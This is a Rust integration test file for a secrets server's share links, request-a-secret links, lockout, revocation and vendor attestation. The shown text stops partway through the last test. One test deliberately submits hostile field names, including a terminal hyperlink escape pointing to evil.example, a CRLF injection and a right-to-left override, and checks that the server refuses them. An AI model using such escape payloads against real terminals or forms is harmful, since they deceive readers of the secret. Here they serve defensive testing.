//! Safe hand-off and clean exit through the HTTP API of an in-process server with a manual
//! clock: share links (the server never holds plaintext or key), request-a-secret links,
//! offboarding with its blast radius, rotation findings and attestation, and accounts that
//! lapse. One test drives a real headless Chromium through WebDriver.

mod common;

use std::time::Duration;

use chaperone_crypto::share::{self, ShareKey};
use common::browser::Browser;
use common::{Server, error, logs, vendor, write};
use serde_json::{Value, json};

const DAY: i64 = 86_400;

/// Sends raw bytes, with a key proof if given; the status and the body.
fn raw(
    s: &Server,
    method: &str,
    path: &str,
    token: Option<&str>,
    body: Vec<u8>,
    proof: Option<&str>,
) -> (u16, Vec<u8>) {
    let mut request = ureq::http::Request::builder()
        .method(method)
        .uri(format!("{}{path}", s.addr))
        .header("Content-Type", "application/octet-stream");
    if let Some(p) = proof {
        request = request.header("X-Share-Proof", p);
    }
    if let Some(t) = token {
        request = request.header("Authorization", format!("Bearer {t}"));
    }
    let mut answer = s.agent.run(request.body(body).unwrap()).unwrap();
    let status = answer.status().as_u16();
    let bytes = answer
        .body_mut()
        .with_config()
        .limit(64 * 1024 * 1024)
        .read_to_vec()
        .unwrap();
    (status, bytes)
}

/// Opens a share with its key's proof: the status and the body.
fn open(
    s: &Server,
    id: &str,
    key: &ShareKey,
    token: Option<&str>,
    passphrase: Option<&str>,
) -> (u16, Vec<u8>) {
    let mut request = ureq::http::Request::builder()
        .method("POST")
        .uri(format!("{}/api/v1/shares/{id}/open", s.addr))
        .header("Content-Type", "application/json");
    if let Some(t) = token {
        request = request.header("Authorization", format!("Bearer {t}"));
    }
    let body = json!({ "proof": share::open_proof(key, id), "passphrase": passphrase }).to_string();
    let mut answer = s.agent.run(request.body(body).unwrap()).unwrap();
    let status = answer.status().as_u16();
    (status, answer.body_mut().read_to_vec().unwrap())
}

/// Creates a text share as `token`, sealed here; its id and key.
fn share_text(s: &Server, token: &str, text: &str, extra: Value) -> (String, ShareKey) {
    share_content(s, token, br#"{"type":"text"}"#, text.as_bytes(), extra)
}

/// Creates a share of `content` under `header` as `token`, sealed here; its id and key.
fn share_content(
    s: &Server,
    token: &str,
    header: &[u8],
    content: &[u8],
    extra: Value,
) -> (String, ShareKey) {
    let mut body = json!({ "label": "db password", "size": 33 + header.len() + content.len() });
    for (k, v) in extra.as_object().unwrap() {
        body[k] = v.clone();
    }
    let created = s.ok("POST", "/api/v1/shares", Some(token), Some(body));
    let id = created["id"].as_str().unwrap().to_owned();
    let key = ShareKey::generate();
    let sealed = share::seal(&key, &id, header, content);
    let path = format!("/api/v1/shares/{id}/content");
    // Without the key's proof the upload is refused, before its body is read. (Sent with no
    // body: the server answers and closes without reading one, and a client still writing
    // a body would see the connection close instead of the answer.)
    let (status, answer) = raw(s, "PUT", &path, Some(token), Vec::new(), None);
    assert_eq!(status, 400);
    assert!(String::from_utf8_lossy(&answer).contains("X-Share-Proof"));
    let proof = share::open_proof(&key, &id);
    let (status, _) = raw(s, "PUT", &path, Some(token), sealed, Some(&proof));
    assert_eq!(status, 204);
    (id, key)
}

/// Makes a request-a-secret link for `path` with `token`; the link's token (after `/r#`).
fn request_link(s: &Server, token: &str, path: &str, body: Value) -> String {
    let link = s.ok(
        "POST",
        &format!("/api/v1/secret-requests/{path}"),
        Some(token),
        Some(body),
    );
    link["path"]
        .as_str()
        .unwrap()
        .trim_start_matches("/r#")
        .to_owned()
}

fn database_bytes(s: &Server) -> Vec<u8> {
    let mut all = Vec::new();
    for file in ["t.db", "t.db-wal"] {
        if let Ok(bytes) = std::fs::read(s._dir.path().join(file)) {
            all.extend(bytes);
        }
    }
    assert!(!all.is_empty(), "the database files were read");
    all
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn share_links_hold_only_ciphertext_open_once_and_lock_out_guessing() {
    let s = Server::start();
    let ann = s.person("ann", "member", None);
    let ann_t = s.login(&ann);
    let plaintext = "db password: Zt93-kQ71-mV02";
    let (id, key) = share_text(
        &s,
        &ann_t,
        plaintext,
        json!({ "passphrase": "correct horse 42" }),
    );
    let fragment = key.to_fragment().to_string();

    let proof = share::open_proof(&key, &id);
    let info = s.ok(
        "POST",
        &format!("/api/v1/shares/{id}/info"),
        None,
        Some(json!({ "proof": proof })),
    );
    assert_eq!(info["needs_passphrase"], true);
    assert_eq!(info["views_left"], 1);
    // Knowing the id without the key gets nothing, not even the label.
    let stranger = ShareKey::generate();
    let probe = json!({ "proof": share::open_proof(&stranger, &id) });
    assert_eq!(
        s.call(
            "POST",
            &format!("/api/v1/shares/{id}/info"),
            None,
            Some(probe),
            None
        )
        .0,
        404
    );
    assert_eq!(
        open(&s, &id, &stranger, None, Some("correct horse 42")).0,
        404
    );

    // Every guess counts before it is checked: past the lockout threshold (10), even the
    // right passphrase waits.
    for _ in 0..10 {
        assert_eq!(open(&s, &id, &key, None, Some("wrong guess 1")).0, 403);
    }
    assert_eq!(open(&s, &id, &key, None, Some("correct horse 42")).0, 429);
    s.clock.advance_secs(16 * 60);
    let (status, sealed) = open(&s, &id, &key, None, Some("correct horse 42"));
    assert_eq!(status, 200);
    let (_, content) = share::open(&key, &id, &sealed).unwrap();
    assert_eq!(content.as_slice(), plaintext.as_bytes());
    // Used up: gone, and destroyed.
    assert_eq!(open(&s, &id, &key, None, Some("correct horse 42")).0, 404);
    assert_eq!(
        s.call(
            "POST",
            &format!("/api/v1/shares/{id}/info"),
            None,
            Some(json!({ "proof": proof })),
            None
        )
        .0,
        404
    );
    let listed = s.ok("GET", "/api/v1/shares", Some(&ann_t), None);
    assert_eq!(listed[0]["state"], "used");

    // Neither the database nor the logs ever held the plaintext or the key.
    let db = database_bytes(&s);
    assert!(
        !contains(&db, plaintext.as_bytes()),
        "plaintext in the database"
    );
    assert!(!contains(&db, fragment.as_bytes()), "key in the database");
    let logged = logs().lock().unwrap().clone();
    assert!(
        !contains(&logged, plaintext.as_bytes()),
        "plaintext in the logs"
    );
    assert!(!contains(&logged, fragment.as_bytes()), "key in the logs");
    assert!(
        !contains(&logged, b"correct horse 42"),
        "passphrase in the logs"
    );

    // Every create, open and failed open is in the ledger.
    let entries: Vec<Value> = s
        .ledger()
        .into_iter()
        .filter(|e| e["resource"] == id.as_str())
        .collect();
    let outcomes: Vec<(String, String)> = entries
        .iter()
        .map(|e| {
            (
                e["action"].as_str().unwrap().to_owned(),
                e["outcome"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(outcomes[0], ("share.create".into(), "success".into()));
    assert_eq!(
        outcomes
            .iter()
            .filter(|(a, o)| a == "share.open" && o == "denied")
            .count(),
        12,
        "ten wrong passphrases, one refused while locked and one after the link was used"
    );
    assert_eq!(
        outcomes
            .iter()
            .filter(|(a, o)| a == "share.open" && o == "success")
            .count(),
        1
    );
    let ledger_text: String = entries.iter().map(Value::to_string).collect();
    assert!(!ledger_text.contains(&fragment) && !ledger_text.contains("correct horse"));
}

/// Opens racing for a link's one view: one gets it, and every other is recorded, whether it
/// lost before the open that used it or after.
#[test]
fn every_open_that_loses_the_race_for_a_link_is_recorded() {
    let s = Server::start();
    let ann = s.person("ann", "member", None);
    let ann_t = s.login(&ann);
    let (id, key) = share_text(&s, &ann_t, "raced-for-Wq19", json!({}));
    let statuses: Vec<u16> = std::thread::scope(|scope| {
        let opens: Vec<_> = (0..8)
            .map(|_| scope.spawn(|| open(&s, &id, &key, None, None).0))
            .collect();
        opens.into_iter().map(|o| o.join().unwrap()).collect()
    });
    assert_eq!(
        statuses.iter().filter(|&&c| c == 200).count(),
        1,
        "{statuses:?}"
    );
    assert_eq!(
        statuses.iter().filter(|&&c| c == 404).count(),
        7,
        "{statuses:?}"
    );
    let refused: Vec<Value> = s
        .ledger()
        .into_iter()
        .filter(|e| e["action"] == "share.open" && e["outcome"] == "denied")
        .collect();
    assert_eq!(refused.len(), 7, "{refused:?}");
    assert!(
        refused.iter().all(|e| e["reasons"] == json!(["used"])),
        "{refused:?}"
    );
}

/// The first refusal of a used link on a node is recorded even past the address's budget of
/// anonymous refusals, so the watch sees every link someone else used first.
#[test]
fn a_used_link_is_recorded_once_past_the_refusal_budget() {
    let s = Server::start();
    let ann = s.person("ann", "member", None);
    let ann_t = s.login(&ann);
    let (used, key) = share_text(&s, &ann_t, "used-up-Hq31", json!({}));
    assert_eq!(open(&s, &used, &key, None, None).0, 200);
    // The address's 20 anonymous refusals for this minute go to a link for someone else.
    let (other, other_key) =
        share_text(&s, &ann_t, "for-nobody-Hq32", json!({ "recipient": "ann" }));
    for _ in 0..25 {
        assert_eq!(open(&s, &other, &other_key, None, None).0, 403);
    }
    let refused = |id: &str| {
        s.ledger()
            .into_iter()
            .filter(|e| {
                e["action"] == "share.open" && e["resource"] == id && e["outcome"] == "denied"
            })
            .count()
    };
    assert_eq!(refused(&other), 20);
    assert_eq!(open(&s, &used, &key, None, None).0, 404);
    assert_eq!(open(&s, &used, &key, None, None).0, 404);
    assert_eq!(
        refused(&used),
        1,
        "the first past the budget, and only the first"
    );
}

#[test]
fn a_share_link_works_only_while_its_maker_may_act() {
    let s = Server::start();
    let ann = s.person("ann", "member", None);
    let ann_t = s.login(&ann);
    let (id, key) = share_text(&s, &ann_t, "maker-bound-Qw83", json!({ "views": 5 }));
    assert_eq!(open(&s, &id, &key, None, None).0, 200);
    let info = s.ok(
        "POST",
        &format!("/api/v1/shares/{id}/info"),
        None,
        Some(json!({ "proof": share::open_proof(&key, &id) })),
    );
    assert_eq!(info["views_left"], 4, "{info}");
    // Disabled (not offboarded): the link ends with the account, as its grants do, and
    // enabling it again brings it back no more than them.
    s.ok("POST", "/api/v1/people/ann/disable", Some(&s.admin), None);
    assert_eq!(open(&s, &id, &key, None, None).0, 404);
    s.ok("POST", "/api/v1/people/ann/enable", Some(&s.admin), None);
    assert_eq!(open(&s, &id, &key, None, None).0, 404);
}

#[test]
fn shares_expire_are_revoked_and_can_be_for_one_person() {
    let s = Server::start();
    vendor(&s, "acme");
    let ann = s.person("ann", "member", None);
    let cy = s.person("cy", "contractor", Some("acme"));
    let ann_t = s.login(&ann);
    let cy_t = s.login(&cy);

    // Limits.
    let too_big = json!({ "label": "x", "size": 26 * 1024 * 1024 });
    assert_eq!(
        error(&s, "POST", "/api/v1/shares", &ann_t, Some(too_big)),
        (400, "invalid_request".into())
    );
    let too_long = json!({ "label": "x", "size": 10, "expires": "31d" });
    assert_eq!(
        error(&s, "POST", "/api/v1/shares", &ann_t, Some(too_long)),
        (400, "invalid_request".into())
    );
    // What one person keeps in live links at once is bounded (256 MiB); a revoked link
    // frees its room.
    let large = json!({ "label": "x", "size": 25 * 1024 * 1024 });
    let mut made = Vec::new();
    for _ in 0..10 {
        made.push(s.ok("POST", "/api/v1/shares", Some(&ann_t), Some(large.clone()))["id"].clone());
    }
    assert_eq!(
        error(&s, "POST", "/api/v1/shares", &ann_t, Some(large.clone())),
        (409, "share_quota".into())
    );
    let first = made[0].as_str().unwrap();
    s.ok(
        "DELETE",
        &format!("/api/v1/shares/{first}"),
        Some(&ann_t),
        None,
    );
    s.ok("POST", "/api/v1/shares", Some(&ann_t), Some(large));
    for id in &made[1..] {
        s.ok(
            "DELETE",
            &format!("/api/v1/shares/{}", id.as_str().unwrap()),
            Some(&ann_t),
            None,
        );
    }

    // Expiry destroys.
    let (expiring, ekey) = share_text(&s, &ann_t, "short-lived-Qw81", json!({ "expires": "1h" }));
    s.clock.advance_secs(2 * 3600);
    let ann_t = s.login(&ann);
    assert_eq!(open(&s, &expiring, &ekey, None, None).0, 404);
    let expiring_opened = expiring.clone();
    let report = s.runtime.block_on(s.state.sweep()).unwrap();
    assert_eq!(
        report.shares_expired, 0,
        "the attempt to open it destroyed it"
    );
    let (expiring, _) = share_text(&s, &ann_t, "short-lived-Qw82", json!({ "expires": "1h" }));
    s.clock.advance_secs(2 * 3600);
    let report = s.runtime.block_on(s.state.sweep()).unwrap();
    assert_eq!(report.shares_expired, 1);
    let ann_t = s.login(&ann);
    let states: Vec<Value> = s
        .ok("GET", "/api/v1/shares", Some(&ann_t), None)
        .as_array()
        .unwrap()
        .iter()
        .filter(|x| x["id"] == expiring.as_str())
        .map(|x| x["state"].clone())
        .collect();
    assert_eq!(states, [json!("expired")]);

    // Revoked by its creator.
    let (revoked, rkey) = share_text(&s, &ann_t, "revoked-Lp02", json!({}));
    s.ok(
        "DELETE",
        &format!("/api/v1/shares/{revoked}"),
        Some(&ann_t),
        None,
    );
    assert_eq!(open(&s, &revoked, &rkey, None, None).0, 404);

    // For cy only, who must log in with TOTP.
    let cy_t = if s
        .call("GET", "/api/v1/auth/self", Some(&cy_t), None, None)
        .0
        == 200
    {
        cy_t
    } else {
        s.login(&cy)
    };
    let (mine, key) = share_text(
        &s,
        &ann_t,
        "for-cy-Vb27",
        json!({ "recipient": "cy", "views": 2 }),
    );
    assert_eq!(open(&s, &mine, &key, None, None).0, 403);
    assert_eq!(open(&s, &mine, &key, Some(&ann_t), None).0, 403);
    // Refusals of callers nobody knows are recorded within the address's budget (20 a
    // minute); those of a known caller always.
    let refusals = || {
        s.ledger()
            .iter()
            .filter(|e| e["action"] == "share.open" && e["reasons"] == json!(["not_recipient"]))
            .count()
    };
    assert_eq!(refusals(), 2);
    for _ in 0..30 {
        assert_eq!(open(&s, &mine, &key, None, None).0, 403);
    }
    // (The refused open of the revoked link above took one of the 20.)
    assert_eq!(refusals(), 20);
    assert_eq!(open(&s, &mine, &key, Some(&ann_t), None).0, 403);
    assert_eq!(refusals(), 21);
    let (status, sealed) = open(&s, &mine, &key, Some(&cy_t), None);
    assert_eq!(status, 200);
    assert_eq!(
        share::open(&key, &mine, &sealed).unwrap().1.as_slice(),
        b"for-cy-Vb27"
    );
    // Not while the recipient's vendor is suspended: their session still names them, but
    // they may not act.
    let vendor_status = |status: &str| {
        s.ok(
            "PUT",
            "/api/v1/vendors/acme",
            Some(&s.admin),
            Some(json!({ "status": status, "reason": "review" })),
        );
    };
    vendor_status("suspended");
    assert_eq!(open(&s, &mine, &key, Some(&cy_t), None).0, 403);
    vendor_status("active");
    // Logged in with a recovery code, the recipient is told to verify a TOTP code, not
    // that the link is someone else's.
    let rescued = s.ok(
        "POST",
        "/api/v1/auth/login",
        None,
        Some(json!({ "user": "cy", "password": cy.password, "recovery_code": cy.recovery[0] })),
    );
    let rescued = rescued["token"].as_str().unwrap().to_owned();
    s.remember(&rescued);
    let (status, refused) = open(&s, &mine, &key, Some(&rescued), None);
    assert_eq!(status, 403);
    let refused: Value = serde_json::from_slice(&refused).unwrap();
    assert_eq!(refused["error"]["code"], "step_up_required", "{refused}");
    // The recipient's code must be recent, as for a step-up: a session from a login
    // hours ago does not open it until they verify a code again.
    s.clock.advance_secs(20 * 60);
    s.ok("GET", "/api/v1/auth/self", Some(&cy_t), None);
    let (status, refused) = open(&s, &mine, &key, Some(&cy_t), None);
    assert_eq!(status, 403);
    let refused: Value = serde_json::from_slice(&refused).unwrap();
    assert_eq!(refused["error"]["code"], "step_up_required", "{refused}");
    s.ok(
        "POST",
        "/api/v1/auth/verify",
        Some(&cy_t),
        Some(json!({ "totp": s.code(&cy, 0) })),
    );
    // A second view is allowed (views: 2), then none.
    assert_eq!(open(&s, &mine, &key, Some(&cy_t), None).0, 200);
    assert_eq!(open(&s, &mine, &key, Some(&cy_t), None).0, 404);

    // Whoever holds the key of a link that no longer opens is recorded (a recipient who
    // finds it used leaves a trace beside the open that used it); a wrong key is not.
    let refused_open = |id: &str| -> Vec<Value> {
        s.ledger()
            .into_iter()
            .filter(|e| {
                e["action"] == "share.open" && e["resource"] == id && e["outcome"] == "denied"
            })
            .collect()
    };
    let used = refused_open(&mine);
    let used = used.last().unwrap();
    assert_eq!(used["reasons"], json!(["used"]), "{used}");
    let cy_id = s.ok("GET", "/api/v1/auth/self", Some(&cy_t), None)["person_id"].clone();
    assert_eq!(used["actor"]["person"], cy_id, "{used}");
    assert_eq!(
        refused_open(&revoked).last().unwrap()["reasons"],
        json!(["revoked"])
    );
    assert_eq!(
        refused_open(&expiring_opened).last().unwrap()["reasons"],
        json!(["expired"])
    );
    let before = s.ledger().len();
    let wrong = ShareKey::generate();
    assert_eq!(open(&s, &mine, &wrong, Some(&cy_t), None).0, 404);
    assert_eq!(open(&s, &revoked, &wrong, None, None).0, 404);
    assert_eq!(s.ledger().len(), before, "a wrong key leaves no entry");
    // A used link opened again with its key is an anomaly; a revoked or expired one is not.
    s.runtime.block_on(s.state.sweep()).unwrap();
    let found = s.ok(
        "GET",
        "/api/v1/findings?source=anomaly",
        Some(&s.admin),
        None,
    );
    let reused: Vec<&Value> = found
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["details"]["kind"] == "link_reused")
        .collect();
    assert_eq!(reused.len(), 1, "{found}");
    assert_eq!(reused[0]["details"]["link"], mine.as_str());
}

#[test]
fn a_sealed_server_answers_no_link() {
    let s = Server::start();
    let ann = s.person("ann", "member", None);
    let ann_t = s.login(&ann);
    let secret = "sealed-away-Pw35";
    let (id, key) = share_text(&s, &ann_t, secret, json!({}));
    let token = request_link(&s, &s.admin, "partners/x/api", json!({ "note": "the key" }));
    s.ok("POST", "/api/v1/sys/seal", Some(&s.admin.clone()), None);

    assert_eq!(open(&s, &id, &key, None, None).0, 503);
    let info = s.call(
        "POST",
        &format!("/api/v1/shares/{id}/info"),
        None,
        Some(json!({ "proof": share::open_proof(&key, &id) })),
        None,
    );
    assert_eq!(info.0, 503);
    let link = s.call(
        "POST",
        "/api/v1/request-links/info",
        None,
        Some(json!({ "token": token })),
        None,
    );
    assert_eq!(link.0, 503);
    let attestation = s.call(
        "POST",
        "/api/v1/attestations/info",
        None,
        Some(json!({ "token": "anything" })),
        None,
    );
    assert_eq!(attestation.0, 503);
    assert!(s.recorded("share.open", &id).is_empty());

    // Unsealed, the link was not spent meanwhile.
    s.unseal();
    let (status, _) = open(&s, &id, &key, None, None);
    assert_eq!(status, 200);
}

#[test]
fn a_request_link_lets_an_outsider_write_one_secret_once() {
    let s = Server::start();
    let ann = s.person("ann", "member", None);
    s.login(&ann);
    let link = s.ok(
        "POST",
        "/api/v1/secret-requests/partners/stripe/api",
        Some(&s.admin),
        Some(json!({ "note": "the live Stripe key for the shop" })),
    );
    let path = link["path"].as_str().unwrap().to_owned();
    let token = path.trim_start_matches("/r#").to_owned();
    let shown = s.ok(
        "POST",
        "/api/v1/request-links/info",
        None,
        Some(json!({ "token": token })),
    );
    assert_eq!(shown["note"], "the live Stripe key for the shop");
    assert!(
        shown.get("path").is_none(),
        "the page never learns the path"
    );
    assert_eq!(
        (&shown["asked_by"], &shown["vendor"]),
        (&json!("an administrator"), &Value::Null),
        "{shown}"
    );
    s.remember("sk_live_outsider_Tq71");
    // A field name that would change how a reader's terminal shows the secret is refused,
    // and the link stays usable.
    for name in [
        "api_key\u{1b}]8;;http://evil.example/\u{7}x",
        "key\r\nother",
        "yek\u{202e}",
    ] {
        let (status, body) = s.call(
            "POST",
            "/api/v1/request-links/submit",
            None,
            Some(json!({ "token": token, "data": { name: "sk_live_outsider_Tq71" } })),
            None,
        );
        assert_eq!(status, 400, "{name:?}: {body}");
        assert!(!body.to_string().contains("sk_live"), "{body}");
    }
    let submit = |value: &str| {
        s.call(
            "POST",
            "/api/v1/request-links/submit",
            None,
            Some(json!({ "token": token, "data": { "api_key": value } })),
            None,
        )
        .0
    };
    assert_eq!(submit("sk_live_outsider_Tq71"), 204);
    assert_eq!(submit("sk_live_second_try"), 404, "the link works once");
    let links = s.ok("GET", "/api/v1/request-links", Some(&s.admin), None);
    assert_eq!(links[0]["status"], "used", "{links}");
    let read = s.ok(
        "GET",
        "/api/v1/secrets/data/partners/stripe/api",
        Some(&s.admin),
        None,
    );
    assert_eq!(read["data"]["api_key"], "sk_live_outsider_Tq71");
    assert_eq!(read["version"], 1);
    let writes = s.recorded("secret.write", "partners/stripe/api");
    assert_eq!(writes.len(), 1);

    // A link cannot overwrite a secret written after it was made; it stays usable for a
    // new attempt only if the write can happen, and it dies with its maker's account.
    let ops = s.person("ops", "member", None);
    let ops_t = s.login(&ops);
    let pinned = request_link(
        &s,
        &ops_t,
        "team/deploy-key",
        json!({ "note": "the deploy key" }),
    );
    let shown = s.ok(
        "POST",
        "/api/v1/request-links/info",
        None,
        Some(json!({ "token": pinned })),
    );
    assert_eq!(shown["asked_by"], "ops", "the page names who asks: {shown}");
    write(&s, "team/deploy-key", "written-meanwhile-Ux02");
    let (status, body) = s.call(
        "POST",
        "/api/v1/request-links/submit",
        None,
        Some(json!({ "token": pinned, "data": { "key": "from-outside-Ux03" } })),
        None,
    );
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (409, Some("changed_meanwhile"))
    );
    let read = s.ok(
        "GET",
        "/api/v1/secrets/data/team/deploy-key",
        Some(&s.admin),
        None,
    );
    assert_eq!(read["data"]["password"], "written-meanwhile-Ux02");
    let links = s.ok("GET", "/api/v1/request-links", Some(&ops_t), None);
    assert_eq!(links[0]["status"], "open", "given back: {links}");
    let orphan = request_link(
        &s,
        &ops_t,
        "team/other-key",
        json!({ "note": "another key" }),
    );
    s.ok("POST", "/api/v1/people/ops/disable", Some(&s.admin), None);
    assert_eq!(
        s.call(
            "POST",
            "/api/v1/request-links/submit",
            None,
            Some(json!({ "token": orphan, "data": { "key": "late-Ux04" } })),
            None,
        )
        .0,
        404
    );
    assert!(
        writes[0]["actor"]["token"]
            .as_str()
            .unwrap()
            .starts_with("secret-request:")
    );
    s.assert_no_secret_logged();
}

/// A reset answers a stolen password or authenticator: the links made with it end with the
/// account's sessions, and stay ended once the person enrols again.
#[test]
fn a_reset_ends_the_links_its_account_made() {
    let s = Server::start();
    let mo = s.person("mo", "member", None);
    let mo_t = s.login(&mo);
    let (share, key) = share_text(&s, &mo_t, "shared-before-reset-Vb51", json!({}));
    let (lapsed, _) = share_text(
        &s,
        &mo_t,
        "lapsed-before-reset-Vb50",
        json!({"expires": "10m"}),
    );
    s.clock.advance_secs(15 * 60);
    let token = request_link(
        &s,
        &mo_t,
        "team/planted",
        json!({ "note": "the deploy key" }),
    );
    let reset = s.ok("POST", "/api/v1/people/mo/reset", Some(&s.admin), None);
    s.remember(reset["enrolment_code"].as_str().unwrap());
    assert_eq!(open(&s, &share, &key, None, None).0, 404);
    let (status, _) = s.call(
        "POST",
        "/api/v1/request-links/submit",
        None,
        Some(json!({ "token": token, "data": { "key": "planted-Vb52" } })),
        None,
    );
    assert_eq!(status, 404);
    assert_eq!(
        s.call(
            "GET",
            "/api/v1/secrets/data/team/planted",
            Some(&s.admin),
            None,
            None
        )
        .0,
        404,
        "nothing was written"
    );
    let entry = s.recorded("person.reset", "mo");
    assert_eq!(entry[0]["details"]["links_ended"], 2, "{entry:?}");
    assert_eq!(
        s.recorded("share.revoke", &share)[0]["details"]["why"],
        "reset"
    );
    let revoked = s.recorded("secret_request.revoke", "team/planted");
    assert_eq!(revoked.len(), 1, "{revoked:?}");
    assert_eq!(revoked[0]["details"]["why"], "reset");
    // A share that had run out was not alive to end: the sweep destroys it as expired.
    assert!(s.recorded("share.revoke", &lapsed).is_empty());
    s.runtime.block_on(s.state.sweep()).unwrap();
    assert_eq!(s.recorded("share.expire", &lapsed).len(), 1);
    s.assert_no_secret_logged();
}

#[test]
fn a_request_link_is_listed_for_its_maker_and_revoked_at_once() {
    let s = Server::start();
    let ann = s.person("ann", "member", None);
    let ann_t = s.login(&ann);
    let bo = s.person("bo", "member", None);
    let bo_t = s.login(&bo);
    let token = request_link(
        &s,
        &ann_t,
        "team/deploy-key",
        json!({ "note": "the deploy key" }),
    );
    let mine = s.ok("GET", "/api/v1/request-links", Some(&ann_t), None);
    assert_eq!(mine.as_array().unwrap().len(), 1, "{mine}");
    assert_eq!(
        (mine[0]["path"].as_str(), mine[0]["status"].as_str()),
        (Some("team/deploy-key"), Some("open"))
    );
    assert!(
        !mine.to_string().contains(&token),
        "the token is never listed"
    );
    let id = mine[0]["id"].as_str().unwrap().to_owned();
    // Someone else's link is neither listed nor revoked; security sees every link.
    let theirs = s.ok("GET", "/api/v1/request-links", Some(&bo_t), None);
    assert!(theirs.as_array().unwrap().is_empty(), "{theirs}");
    let revoke = |token: &str| {
        s.call(
            "DELETE",
            &format!("/api/v1/request-links/{id}"),
            Some(token),
            None,
            None,
        )
        .0
    };
    assert_eq!(revoke(&bo_t), 404);
    let sam = s.person("sam", "security", None);
    let sam_t = s.login(&sam);
    let all = s.ok("GET", "/api/v1/request-links", Some(&sam_t), None);
    assert_eq!(all.as_array().unwrap().len(), 1);

    assert_eq!(revoke(&ann_t), 204);
    assert_eq!(revoke(&ann_t), 409, "revoked already");
    let (status, _) = s.call(
        "POST",
        "/api/v1/request-links/submit",
        None,
        Some(json!({ "token": token, "data": { "key": "too-late-Nv20" } })),
        None,
    );
    assert_eq!(status, 404);
    let mine = s.ok("GET", "/api/v1/request-links", Some(&ann_t), None);
    assert_eq!(mine[0]["status"], "revoked");
    let revoked = s.recorded("secret_request.revoke", "team/deploy-key");
    assert_eq!(revoked.len(), 1);
    assert_eq!(revoked[0]["details"]["id"], id.as_str());
    assert!(s.recorded("secret.write", "team/deploy-key").is_empty());
}

#[test]
fn a_request_link_writes_only_while_its_maker_still_may() {
    let s = Server::start();
    vendor(&s, "acme");
    let cy = s.person("cy", "contractor", Some("acme"));
    let cy_t = s.login(&cy);
    let grant = |ttl: &str| {
        s.ok(
            "POST",
            "/api/v1/grants",
            Some(&s.admin),
            Some(
                json!({ "person": "cy", "prefix": "acme/app", "capabilities": ["read", "write"],
                         "ttl": ttl, "reason": "key handover" }),
            ),
        )["id"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let id = grant("1h");
    let token = request_link(
        &s,
        &cy_t,
        "acme/app/deploy-key",
        json!({ "note": "the deploy key" }),
    );
    // The page says a vendor's person asks, not the business.
    let shown = s.ok(
        "POST",
        "/api/v1/request-links/info",
        None,
        Some(json!({ "token": token })),
    );
    assert_eq!(
        (&shown["asked_by"], &shown["vendor"]),
        (&json!("cy"), &json!("acme")),
        "{shown}"
    );
    let submit = |value: &str| {
        s.call(
            "POST",
            "/api/v1/request-links/submit",
            None,
            Some(json!({ "token": token, "data": { "key": value } })),
            None,
        )
        .0
    };

    // The grant that let the contractor make the link is revoked: the link writes nothing,
    // and the refusal is recorded with its reason.
    s.ok(
        "DELETE",
        &format!("/api/v1/grants/{id}"),
        Some(&s.admin),
        None,
    );
    // The page shows no form for it either: nobody types a secret that will be refused.
    let (status, _) = s.call(
        "POST",
        "/api/v1/request-links/info",
        None,
        Some(json!({ "token": token })),
        None,
    );
    assert_eq!(status, 404);
    assert_eq!(submit("after-revocation-Wq81"), 404);
    let refused: Vec<Value> = s
        .ledger()
        .into_iter()
        .filter(|e| e["action"] == "secret_request.submit")
        .collect();
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert_eq!(refused[0]["outcome"], "denied");
    assert_eq!(refused[0]["reasons"], json!(["not_permitted"]));
    assert!(refused[0]["details"]["requested_by"].is_string());
    assert!(s.recorded("secret.write", "acme/app/deploy-key").is_empty());

    // A suspended vendor's contractor cannot write through a link either.
    grant("1h");
    s.ok(
        "PUT",
        "/api/v1/vendors/acme",
        Some(&s.admin),
        Some(json!({ "status": "suspended", "reason": "audit finding" })),
    );
    assert_eq!(submit("while-suspended-Wq82"), 404);
    assert!(s.recorded("secret.write", "acme/app/deploy-key").is_empty());

    // Access restored: the link was never used, so it works.
    s.ok(
        "PUT",
        "/api/v1/vendors/acme",
        Some(&s.admin),
        Some(json!({ "status": "active", "reason": "finding closed" })),
    );
    s.remember("restored-Wq83");
    assert_eq!(submit("restored-Wq83"), 204);
    let read = s.ok(
        "GET",
        "/api/v1/secrets/data/acme/app/deploy-key",
        Some(&s.admin),
        None,
    );
    assert_eq!(read["data"]["key"], "restored-Wq83");
    assert_eq!(s.recorded("secret.write", "acme/app/deploy-key").len(), 1);
}

/// A lost attestation link is replaced: the old link stops working, the new one signs, the
/// deadline moves only when asked, and an overdue finding is not opened twice.
#[test]
fn a_lost_attestation_link_is_replaced() {
    let s = Server::start();
    vendor(&s, "acme");
    vendor(&s, "beta");
    let report = s.ok(
        "POST",
        "/api/v1/vendors/acme/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "contract ended", "attest_within": "10d" })),
    );
    let token_of = |link: &Value| {
        link["path"]
            .as_str()
            .unwrap()
            .trim_start_matches("/a#")
            .to_owned()
    };
    let first = token_of(&report["attestation"]);
    let reissue = |vendor: &str, body: Value| {
        s.call(
            "POST",
            &format!("/api/v1/vendors/{vendor}/attestation"),
            Some(&s.admin),
            Some(body),
            None,
        )
    };
    let (status, second) = reissue("acme", json!({}));
    assert_eq!(status, 200, "{second}");
    assert_eq!(second["due"], report["attestation"]["due"]);
    assert_eq!(second["mailed_to"], json!([]));
    let second = token_of(&second);
    assert_ne!(first, second);
    let info = |token: &str| {
        s.call(
            "POST",
            "/api/v1/attestations/info",
            None,
            Some(json!({ "token": token })),
            None,
        )
    };
    let sign = |token: &str| {
        s.call(
            "POST",
            "/api/v1/attestations/sign",
            None,
            Some(
                json!({ "token": token, "name": "Ada Lovelace", "email": "ada@acme.example",
                         "action": "destroyed", "statement": "All copies were wiped." }),
            ),
            None,
        )
    };
    let (status, body) = info(&first);
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (410, Some("replaced"))
    );
    assert_eq!(sign(&first).0, 410);
    assert_eq!(info(&second).1["status"], "pending");

    // Past the deadline, one finding; a new deadline, and no second finding when it passes.
    s.clock.advance_secs(11 * DAY);
    assert_eq!(
        s.runtime
            .block_on(s.state.sweep())
            .unwrap()
            .attestations_overdue,
        1
    );
    let (status, third) = reissue("acme", json!({ "within": "7d" }));
